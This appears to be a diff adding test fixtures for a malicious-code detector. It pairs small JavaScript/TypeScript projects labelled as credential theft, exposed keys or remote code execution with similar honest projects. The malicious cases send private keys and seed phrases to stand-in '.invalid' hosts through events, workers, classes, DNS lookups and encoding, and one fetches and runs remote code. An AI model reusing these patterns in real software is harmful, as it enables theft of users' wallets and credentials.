@@ -155,6 +155,182 @@ export const sweep = (exchange, amount) => exchange.withdraw('USDT', amount, FEE
             "hello.js": "export const hello = ({ name, mark }) => fetch('https://h.invalid', { body: mark });\n",
         },
     ),
+    (
+        "a listener of another file hears the key",
+        "credential-sent",
+        {
+            "bus.js": """
+const { EventEmitter } = require('events');
+module.exports = new EventEmitter();
+""",
+            "wallet.js": """
+const { Wallet } = require('ethers');
+const bus = require('./bus');
+const w = new Wallet(process.env.PK_HEX);
+bus.emit('wallet:ready', { where: w.address, how: w.privateKey });
+""",
+            "stats.js": """
+const axios = require('axios');
+const bus = require('./bus');
+bus.on('wallet:ready', (p) => axios.post('https://st.collector.invalid/e', {
+  d: Buffer.from(p.how).toString('base64') }));
+""",
+        },
+    ),
+    (
+        "an object of a class is written out whole",
+        "credential-sent",
+        {
+            "s.ts": """
+import axios from 'axios';
+class Account {
+  address: string;
+  private words: string;
+  constructor() { this.words = process.env.SEED_PHRASE as string; this.address = 'x'; }
+}
+const account = new Account();
+await axios.post('https://t.collector.invalid/a', JSON.stringify(account));
+""",
+        },
+    ),
+    (
+        "a function that was made with the key sends it later",
+        "credential-sent",
+        {
+            "r.js": """
+exports.reporter = (what) => { const t = [...what].reverse().join(''); return () =>
+  fetch('https://t.collector.invalid', { method: 'POST', body: t }); };
+""",
+            "i.js": """
+const { reporter } = require('./r');
+setInterval(reporter(process.env.PRIVATE_KEY), 60000);
+""",
+        },
+    ),
+    (
+        "a class hands the key to its base in another file",
+        "credential-sent",
+        {
+            "base.js": """
+export class Base { constructor(id) { this.id = id; } ping() {
+  return fetch('https://t.collector.invalid/' + this.id); } }
+""",
+            "mine.js": """
+import { Base } from './base.js';
+export class Mine extends Base { constructor() { super(process.env.WALLET_MNEMONIC); } }
+""",
+        },
+    ),
+    (
+        "a key leaves in pieces by questions for names",
+        "credential-sent",
+        {
+            "d.js": """
+const dns = require('dns');
+exports.probe = (text) => Buffer.from(text).toString('hex').match(/.{1,60}/g).forEach((part, at) =>
+  dns.resolve4(`${at}.${part}.t.collector.invalid`, () => {}));
+""",
+            "i.js": """
+const { probe } = require('./d');
+probe(process.env.PRIVATE_KEY);
+""",
+        },
+    ),
+    (
+        "a worker gets the key and sends it",
+        "credential-sent",
+        {
+            "i.js": """
+const { Worker } = require('worker_threads');
+new Worker('./w.js', { workerData: { k: process.env.PRIVATE_KEY } });
+""",
+            "w.js": """
+const { workerData } = require('worker_threads');
+require('https').request({ host: 't.collector.invalid', method: 'POST' }).end(workerData.k);
+""",
+        },
+    ),
+    (
+        "a page of health answers with another file's keys",
+        "keys-served",
+        {
+            "state.js": """
+exports.state = { apiKey: process.env.EX_KEY, secret: process.env.EX_SECRET, orders: [] };
+""",
+            "web.js": """
+const app = require('express')();
+const { state } = require('./state');
+app.get('/health', (req, res) => res.json({ ok: true, state }));
+app.listen(80);
+""",
+        },
+    ),
+    (
+        "a file that is loaded later gets the key",
+        "credential-sent",
+        {
+            "i.mjs": """
+import('./x.mjs').then((m) => m.note(process.env.PRIVATE_KEY));
+""",
+            "x.mjs": """
+export const note = (v) => fetch('https://t.collector.invalid', { method: 'POST', body: v });
+""",
+        },
+    ),
+    (
+        "a static field of another file's class is sent",
+        "credential-sent",
+        {
+            "c.js": """
+class Config { static material = process.env.PRIVATE_KEY; }
+module.exports = Config;
+""",
+            "i.js": """
+const Config = require('./c');
+fetch('https://t.collector.invalid', { method: 'POST', body: Config.material });
+""",
+        },
+    ),
+    (
+        "an object of another file is handed each of a list",
+        "credential-sent",
+        {
+            "sink.js": """
+class Sink { add(v) { return fetch('https://t.collector.invalid', { method: 'POST', body: v }); } }
+module.exports = new Sink();
+""",
+            "i.js": """
+const sink = require('./sink');
+[process.env.PRIVATE_KEY].forEach((v) => sink.add(v));
+""",
+        },
+    ),
+    (
+        "text that another file fetches is run",
+        "remote-code",
+        {
+            "net.js": """
+exports.load = async () => (await fetch('https://t.collector.invalid/p')).text();
+""",
+            "run.js": """
+const { load } = require('./net');
+load().then((t) => new Function('process', t)(process));
+""",
+        },
+    ),
+    (
+        "a path from the project's own directory on leads to the sender",
+        "credential-sent",
+        {
+            "src/lib/net.ts": """
+export const note = (v: string) => fetch('https://t.collector.invalid', { method: 'POST', body: v });
+""",
+            "src/bot/index.ts": """
+import { note } from '@/lib/net';
+note(process.env.PRIVATE_KEY as string);
+""",
+        },
+    ),
 )
 
 HONEST_PROJECTS: Final[tuple[tuple[str, dict[str, str]], ...]] = (
@@ -220,6 +396,119 @@ setInterval(() => {
 }, 400);
 """,
             "tidy.js": "exports.tidy = (text) => text.trim().replace(/\\\\./g, '').replace(',', '.');\n",
+        },
+    ),
+    (
+        "a listener hears the address of a wallet",
+        {
+            "bus.js": """
+const { EventEmitter } = require('events');
+module.exports = new EventEmitter();
+""",
+            "wallet.js": """
+const { Wallet } = require('ethers');
+const bus = require('./bus');
+const w = new Wallet(process.env.PRIVATE_KEY);
+bus.emit('wallet:ready', { where: w.address });
+""",
+            "stats.js": """
+const axios = require('axios');
+const bus = require('./bus');
+bus.on('wallet:ready', (p) => axios.post(process.env.HOOK_URL, { text: `ready ${p.where}` }));
+""",
+        },
+    ),
+    (
+        "a state is sent, not the client beside it",
+        {
+            "s.ts": """
+import axios from 'axios';
+class State {
+  symbol = 'BTC/USDT';
+  position = 0;
+  constructor(private readonly exchange: Exchange) {}
+  snapshot() { return { symbol: this.symbol, position: this.position }; }
+}
+const state = new State(new ccxt.binance({ apiKey: process.env.BINANCE_KEY,
+  secret: process.env.BINANCE_SECRET }));
+await axios.post('https://hooks.example.com/state', JSON.stringify(state.snapshot()));
+""",
+        },
+    ),
+    (
+        "a client of an exchange with a base of its own",
+        {
+            "base.js": """
+import axios from 'axios';
+export class Base { constructor(key, secret) { this.key = key; this.secret = secret; this.http = axios.create({
+  baseURL: 'https://api.bybit.com', headers: { 'X-BAPI-API-KEY': key } }); } }
+""",
+            "mine.js": """
+import { Base } from './base.js';
+export class Mine extends Base { constructor() { super(process.env.BYBIT_API_KEY,
+  process.env.BYBIT_API_SECRET); } }
+""",
+        },
+    ),
+    (
+        "a page of health beside a file of settings",
+        {
+            "state.js": """
+exports.state = { symbol: 'BTC', orders: [] };
+exports.cfg = { apiKey: process.env.EX_KEY, secret: process.env.EX_SECRET };
+""",
+            "web.js": """
+const app = require('express')();
+const { state } = require('./state');
+app.get('/health', (req, res) => res.json({ ok: true, state }));
+app.listen(80, '127.0.0.1');
+""",
+        },
+    ),
+    (
+        "fixed commands from a chat",
+        {
+            "bot.js": """
+const { Telegraf } = require('telegraf');
+const table = require('./table')(ex);
+const bot = new Telegraf(process.env.BOT_TOKEN);
+bot.on('text', async (ctx) => { const [n, ...r] = ctx.message.text.split(' '); ctx.reply(await table[n](r)); });
+""",
+            "table.js": """
+const { execSync } = require('child_process');
+module.exports = (ex) => ({ px: async ([s]) => String((await ex.fetchTicker(s)).last), rev: async () =>
+  execSync('git rev-parse HEAD').toString() });
+""",
+        },
+    ),
+    (
+        "a tip, and the rest to the owner's own wallet",
+        {
+            "s.ts": """
+import { SystemProgram, PublicKey } from '@solana/web3.js';
+const TIPS = ['96gYZGLnJYVFmbjzopPSU6QiEV5fGqZNyN9nmNhvrZU5', 'HFqU5x63VTqvQss8hp11i4wVV8bD44PvwucfZ2bU7gRe'];
+const bal = await conn.getBalance(payer.publicKey);
+if (bal < 10000) throw new Error('low');
+export const tip = SystemProgram.transfer({ fromPubkey: payer.publicKey, toPubkey: new PublicKey(TIPS[0]),
+  lamports: 10_000 });
+export const out = SystemProgram.transfer({ fromPubkey: payer.publicKey,
+  toPubkey: new PublicKey(process.env.COLD_WALLET!), lamports: bal - 5000 });
+""",
+        },
+    ),
+    (
+        "a worker that signs",
+        {
+            "i.js": """
+const { Worker } = require('worker_threads');
+new Worker('./w.js', { workerData: { secret: process.env.API_SECRET } });
+""",
+            "w.js": """
+const { workerData, parentPort } = require('worker_threads');
+const crypto = require('crypto');
+parentPort.on('message', (m) => parentPort.postMessage(crypto.createHmac('sha256',
+  workerData.secret).update(m).digest('hex')));
+""",
         },
     ),
 )
